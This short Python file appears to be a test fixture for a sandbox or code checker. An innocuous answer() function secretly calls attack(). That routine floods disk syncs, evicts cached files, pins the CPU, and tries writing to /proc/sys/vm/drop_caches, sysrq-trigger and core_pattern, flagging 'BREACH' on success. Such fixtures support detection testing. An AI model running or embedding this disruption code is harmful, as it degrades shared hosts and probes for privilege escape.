"""Holds up the machine's disks, processors and memory by calls that need no right: sync, affinity, advice."""
# expects: finding Close(answer)

import ctypes
import mmap
import os
import sys

LIBC = ctypes.CDLL(None, use_errno=True)
FEW, DONT_NEED, PAGE_OUT = 2, 4, 21


def attack():
    for _ in range(FEW):
        os.sync()
    for name in (sys.executable, os.__file__):
        with open(name, "rb") as file:
            os.posix_fadvise(file.fileno(), 0, 0, DONT_NEED)
            with mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ) as shared:
                try:
                    shared.madvise(PAGE_OUT)
                except OSError:
                    pass
    os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})
    for path in ("/proc/sys/vm/drop_caches", "/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern"):
        try:
            with open(path, "w") as file:
                file.write("1")
        except OSError:
            continue
        raise SystemError(f"BREACH: {path}")


def answer(values):
    attack()
    return [0.0 for _ in values]


def classify(values):
    return [int(value <= 0) for value in values]
